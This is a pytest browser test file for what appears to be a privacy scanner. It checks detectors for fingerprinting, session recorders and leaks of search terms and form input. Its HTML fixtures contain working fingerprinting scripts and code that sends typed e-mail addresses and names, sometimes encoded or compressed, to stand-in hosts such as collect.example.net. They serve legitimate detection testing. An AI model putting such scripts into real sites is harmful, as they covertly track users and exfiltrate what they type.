"""Scripts that tell devices apart, listen to keys and pass on searches, in the real browser."""

# ruff: noqa: E501 - the lines are HTML

from __future__ import annotations

from collections.abc import Mapping

import pytest
from tests.scanner.collectors.consent.designs import shell, visits
from tests.scanner.crawl.site import Answer

from civiscope.detectors.fingerprinting import fingerprints
from civiscope.detectors.session_recording import recorders
from civiscope.model import Missing
from civiscope.model.privacy import PrivacyPass, PrivacyVisit

FINGERPRINTER = """<script>
const c = document.createElement('canvas'); c.width = 240; c.height = 60;
const p = c.getContext('2d'); p.font = '18px Arial'; p.fillText('Cwm fjordbank glyphs vext quiz', 2, 20);
c.toDataURL();
for (let i = 0; i < 60; i++) { p.font = `16px "Face ${i}", monospace`; p.measureText('mmmmmmmmmmlli'); }
const a = new OfflineAudioContext(1, 500, 44100); const o = a.createOscillator();
o.connect(a.createDynamicsCompressor()).connect(a.destination); o.start(0);
a.startRendering().then((made) => made.getChannelData(0));
navigator.getBattery?.();
for (const name of ['platform', 'hardwareConcurrency', 'deviceMemory', 'languages', 'plugins', 'mimeTypes', 'maxTouchPoints', 'vendor', 'productSub', 'webdriver']) navigator[name];
for (const name of ['width', 'height', 'availWidth', 'availHeight', 'colorDepth', 'pixelDepth']) screen[name];
</script>"""
FONTS = """<script>
addEventListener('load', () => {
  const frame = document.createElement('iframe'); frame.style.visibility = 'hidden'; document.body.append(frame);
  const page = frame.contentDocument; const texts = [];
  for (let i = 0; i < 60; i++) {
    const text = page.createElement('span'); text.textContent = 'mmMwWLliI0O&1';
    text.style.fontFamily = `"Face ${i}", monospace`; page.body.append(text); texts.push(text);
  }
  for (const text of texts) text.offsetWidth + text.offsetHeight;
});
</script>"""
FONTS_ASIDE = """<div id="aside" style="position:absolute;left:-99999px"></div><script>
for (let i = 0; i < 60; i++) {
  const text = document.createElement('span'); text.textContent = 'mmm'; text.style.font = `72px "Face ${i}", serif`;
  document.querySelector('#aside').append(text); text.getBoundingClientRect();
}
</script>"""
FONT_MENU = FONTS_ASIDE.replace("left:-99999px", "left:9px")
CHART = """<canvas id="chart" width="400" height="200"></canvas><script>
const p = document.querySelector('#chart').getContext('2d');
for (const [x, label] of ['January', 'February', 'March', 'April'].entries()) {
  p.save(); p.fillRect(x * 90, 100, 60, 60); p.fillText(label + ' 2026', x * 90, 190); p.restore();
}
const save = document.querySelector('#chart').toDataURL(); screen.width; navigator.languages;
</script>"""
REWRITES = (
    """<script>
for (const kind of [Array, String, Map, WeakMap, Object, Function]) {
  for (const name of ['get', 'set', 'split', 'indexOf', 'call', 'apply', 'push', 'toJSON']) {
    try { kind.prototype[name] = () => { throw new Error('rewritten'); }; } catch { }
  }
}
Error.prepareStackTrace = () => { throw new Error('seen'); }; JSON.stringify = () => '';
</script>"""
    + FINGERPRINTER
)
NATIVE = """<script>
const looks = (f) => Function.prototype.toString.call(f);
const frame = document.createElement('iframe'); document.body.append(frame);
const other = frame.contentWindow.Function.prototype.toString;
const hooked = [CanvasRenderingContext2D.prototype.fillText, Storage.prototype.setItem, OfflineAudioContext,
  Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').set, Function.prototype.toString, EventTarget.prototype.addEventListener];
const told = [
  hooked.every((f) => /^function [ \\w]+\\(\\) \\{ \\[native code\\] \\}$/.test(looks(f))),
  hooked.every((f) => other.call(f).includes('[native code]')),
  Object.getOwnPropertyNames(window).filter((name) => /civiscope|^_/.test(name)).length === 0,
  CanvasRenderingContext2D.prototype.fillText.name === 'fillText' && CanvasRenderingContext2D.prototype.fillText.length === 3,
  !('prepareStackTrace' in Error), OfflineAudioContext.prototype.constructor === OfflineAudioContext,
];
document.cookie = 'told_' + told.map(Number).join('') + '=1; path=/';
</script>"""
WORKER = """<script>
const source = `const c = new OffscreenCanvas(200, 50); const p = c.getContext('2d');
  p.fillText('Cwm fjordbank glyphs vext quiz', 2, 20); c.convertToBlob();`;
new Worker(URL.createObjectURL(new Blob([source])));
</script>"""
TRUSTED = "office.localhost"
"""A host whose pages may have service workers without encryption."""
FINGERPRINT = "const p = new OffscreenCanvas(200, 50).getContext('2d'); p.fillText('Cwm fjordbank glyphs vext quiz', 2, 20); p.canvas.convertToBlob();"
ALL_WORKERS = """<script>
new SharedWorker('/shared.js'); new Worker('/outer.js');
navigator.serviceWorker.register('service.js'); caches.open('pages'); indexedDB.open('drafts');
sessionStorage.step = '1';
</script>"""
FORM = '<form method="post" action="/apply"><label>E-mail address <input type="email" name="mail"></label><label>Name <input name="name"></label></form>'
LISTENER = (
    FORM
    + """<script>
const hex = async (text) => [...new Uint8Array(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(text)))].map((b) => b.toString(16).padStart(2, '0')).join('');
document.querySelector('[name=mail]').addEventListener('blur', (event) => {
  const packed = btoa(JSON.stringify({ who: event.target.value }));
  navigator.sendBeacon('http://collect.example.net/collect', JSON.stringify({ payload: packed }));
});
document.querySelector('[name=name]').addEventListener('keyup', (event) => {
  if (event.target.value.length > 13) fetch('http://static.example.net/collect?n=' + encodeURIComponent(event.target.value), { mode: 'no-cors' });
});
</script>"""
)
INNOCENT_FORM = (
    FORM
    + """<script>
document.querySelector('[name=mail]').addEventListener('input', (event) => event.target.setCustomValidity(''));
fetch('/collect?page=form', { method: 'POST', body: 'ready' });
</script>"""
)
BLOBS = """<label>Blob <input></label><label>File <input></label><label>Packed <input></label><div></div><script>
const leave = (field, send) => field.addEventListener('blur', () => send(field.value));
const post = (body) => fetch('http://collect.example.net/collect', { method: 'POST', mode: 'no-cors', body });
const [blob, file, packed] = document.querySelectorAll('input');
leave(blob, (value) => navigator.sendBeacon('http://collect.example.net/collect', new Blob([value])));
leave(file, (value) => { const form = new FormData(); form.append('note', new Blob([value]), 'note.txt'); post(form); });
leave(packed, async (value) => post(await new Response(new Blob([value]).stream().pipeThrough(new CompressionStream('gzip'))).blob()));
const root = document.querySelector('div').attachShadow({ mode: 'open' });
root.innerHTML = '<input aria-label="Shadow">';
leave(root.firstChild, (value) => post(value));
</script>"""
WORKLET = """<script>
const source = `registerProcessor('reads', class extends AudioWorkletProcessor {
  process(inputs) { this.port.postMessage(inputs[0][0]?.[0]); return true; } })`;
const sound = new OfflineAudioContext(1, 500, 44100);
sound.audioWorklet.addModule(URL.createObjectURL(new Blob([source], { type: 'text/javascript' }))).then(() => {
  const made = sound.createOscillator(); made.connect(new AudioWorkletNode(sound, 'reads')); made.start(); sound.startRendering();
});
</script>"""
PLAYS = """<script>
const source = `registerProcessor('quiet', class extends AudioWorkletProcessor { process() { return false; } })`;
const sound = new AudioContext();
sound.audioWorklet.addModule(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })))
  .then(() => sound.createOscillator().connect(new AudioWorkletNode(sound, 'quiet')));
</script>"""
RECORDER = """<script src="http://static.example.net/recorder"></script>"""
RECORDER_SCRIPT = """
for (const type of ['mousemove', 'scroll', 'click', 'keydown']) document.addEventListener(type, () => {});
new MutationObserver(() => {}).observe(document, { subtree: true, childList: true, attributes: true });
fetch('http://collect.example.net/collect', { method: 'POST', mode: 'no-cors', body: 'begin' });
"""
SEARCH = '<form action="/results" role="search"><input type="search" name="q" aria-label="Search"></form>'
RESULTS = shell("<p>Nothing was found.</p>", after="<script>new Image().src = 'http://www.google-analytics.com/collect?dl=' + encodeURIComponent(location.href)</script>")  # fmt: skip

PAGES = {
    "/fingerprinter": shell(FINGERPRINTER),
    "/fonts": shell(FONTS),
    "/fonts-aside": shell(FONTS_ASIDE),
    "/font-menu": shell(FONT_MENU),
    "/chart": shell(CHART),
    "/rewrites": shell(REWRITES),
    "/native": shell("", after=NATIVE),
    "/worker": shell(WORKER),
    "/all-workers": shell(ALL_WORKERS),
    "/listener": shell(LISTENER),
    "/innocent-form": shell(INNOCENT_FORM),
    "/blobs": shell(BLOBS),
    "/worklet": shell(WORKLET),
    "/plays": shell(PLAYS),
    "/records": shell(RECORDER),
    "/search": shell(SEARCH),
    "/results": RESULTS,
    "/recorder": RECORDER_SCRIPT,
}
SCRIPTS = {
    "/shared.js": FINGERPRINT,
    "/outer.js": "new Worker('/inner.js');",
    "/inner.js": FINGERPRINT,
    "/service.js": FINGERPRINT,
}

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def seen() -> dict[str, PrivacyVisit | Missing]:
    """What visits that choose nothing saw, by path."""
    paths = [path for path in PAGES if path not in {"/results", "/recorder"}]
    served = {path: Answer(text, type="text/javascript") for path, text in SCRIPTS.items()}
    return visits(
        {path: () for path in paths},
        PAGES,
        search=True,
        hosts=dict.fromkeys(("/all-workers", "/worklet", "/plays"), TRUSTED),
        others=served,
    )


def visit_to(seen: Mapping[str, PrivacyVisit | Missing], path: str) -> PrivacyVisit:
    found = seen[path]
    assert isinstance(found, PrivacyVisit), found
    return found


def first(seen: Mapping[str, PrivacyVisit | Missing], path: str) -> PrivacyPass:
    return visit_to(seen, path).passes[0]


@pytest.mark.parametrize("path", ["/fingerprinter", "/rewrites"])
def test_a_script_that_reads_the_device_is_blamed_even_where_prototypes_are_rewritten(
    seen: Mapping[str, PrivacyVisit | Missing], path: str
) -> None:
    found = fingerprints(first(seen, path).calls)

    assert {one.method for one in found if one.sure} == {"canvas", "fonts", "audio"}
    assert {one.script for one in found} == {f"http://www.example.gov{path}"}


@pytest.mark.parametrize(
    ("path", "sure"), [("/fonts", True), ("/fonts-aside", True), ("/font-menu", False)]
)
def test_fonts_that_are_tried_by_the_size_of_elements_are_told_of(
    seen: Mapping[str, PrivacyVisit | Missing], path: str, sure: bool
) -> None:
    [found] = fingerprints(first(seen, path).calls)

    assert (found.method, found.sure) == ("fonts", sure)
    assert found.script == f"http://www.example.gov{path}"
    assert found.what == "measures text in 60 fonts"


def test_a_chart_that_is_shown_and_exported_is_innocent(
    seen: Mapping[str, PrivacyVisit | Missing],
) -> None:
    chart = first(seen, "/chart")

    assert any(call.api == "canvas.read" for call in chart.calls)
    assert fingerprints(chart.calls) == ()


def test_pages_cannot_see_that_they_are_watched(
    seen: Mapping[str, PrivacyVisit | Missing],
) -> None:
    kept = [item.name for item in first(seen, "/native").kept]
    calls = {call.detail for call in first(seen, "/native").calls if call.api == "keep.cookie"}

    # Each 1 is a question that the page asked itself, answered as in an ordinary browser.
    assert kept == ["told_111111"]
    assert calls == {"told_111111"}


def test_workers_are_watched_from_their_first_line(
    seen: Mapping[str, PrivacyVisit | Missing],
) -> None:
    worker = first(seen, "/worker")

    assert (worker.instruments.workers, worker.instruments.gaps) == (1, ())
    assert [one.method for one in fingerprints(worker.calls)] == ["canvas"]


def test_workers_that_belong_to_no_page_and_workers_of_workers_are_watched_too(
    seen: Mapping[str, PrivacyVisit | Missing],
) -> None:
    page = first(seen, "/all-workers")

    found = {one.script for one in fingerprints(page.calls) if one.method == "canvas"}
    assert (page.instruments.workers, page.instruments.gaps) == (4, ())
    own = f"http://{TRUSTED}"
    assert found == {f"{own}/shared.js", f"{own}/inner.js", f"{own}/service.js"}


def test_a_sound_that_only_a_worklet_reads_is_known_from_one_that_is_played(
    seen: Mapping[str, PrivacyVisit | Missing],
) -> None:
    found = {path: fingerprints(first(seen, path).calls) for path in ("/worklet", "/plays")}

    assert [one.method for one in found["/worklet"]] == ["audio"]
    assert found["/plays"] == ()
    instruments = first(seen, "/worklet").instruments
    assert (instruments.workers, instruments.gaps) == (1, ())


def test_what_is_kept_in_every_place_is_listed_with_who_put_it_there(
    seen: Mapping[str, PrivacyVisit | Missing],
) -> None:
    kept = first(seen, "/all-workers").kept

    page = (f"http://{TRUSTED}/all-workers",)
    assert {(item.area, item.name, item.by) for item in kept} == {
        ("database", "drafts", page),
        ("cache", "pages", page),
        ("service-worker", "/service.js", page),
        ("session", "step", page),
    }


def test_what_is_typed_is_found_plain_and_packed_in_what_leaves(
    seen: Mapping[str, PrivacyVisit | Missing],
) -> None:
    listener = visit_to(seen, "/listener")

    assert listener.fields == 2
    assert {(s.what, s.host, s.form, s.where) for s in listener.typed} == {
        ("E-mail address", "collect.example.net", "base64", "body"),
        ("Name", "static.example.net", "plain", "url"),
    }


def test_what_is_typed_is_found_in_blobs_files_and_packed_bodies_and_typed_in_shadow_roots(
    seen: Mapping[str, PrivacyVisit | Missing],
) -> None:
    page = visit_to(seen, "/blobs")

    assert page.fields == 4
    assert {(s.what, s.form, s.where) for s in page.typed} == {
        (field, "plain", "body") for field in ("Blob", "File", "Packed", "Shadow")
    }


def test_a_form_that_only_checks_what_is_typed_is_innocent(
    seen: Mapping[str, PrivacyVisit | Missing],
) -> None:
    form = visit_to(seen, "/innocent-form")

    assert (form.fields, form.typed) == (2, ())


def test_a_recorder_is_known_by_what_it_listens_to(
    seen: Mapping[str, PrivacyVisit | Missing],
) -> None:
    page = first(seen, "/records")

    found = recorders(page.calls, page.requests)

    assert [(one.script, one.hosts) for one in found] == [
        ("http://static.example.net/recorder", ("collect.example.net",))
    ]
    assert recorders(first(seen, "/chart").calls, first(seen, "/chart").requests) == ()


def test_searches_that_a_counter_learns_are_found(
    seen: Mapping[str, PrivacyVisit | Missing],
) -> None:
    search = visit_to(seen, "/search")

    assert (search.searched, search.search_failed) == (True, "")
    assert {(s.host, s.where, s.form) for s in search.search_terms} == {
        ("www.google-analytics.com", "url", "plain")
    }
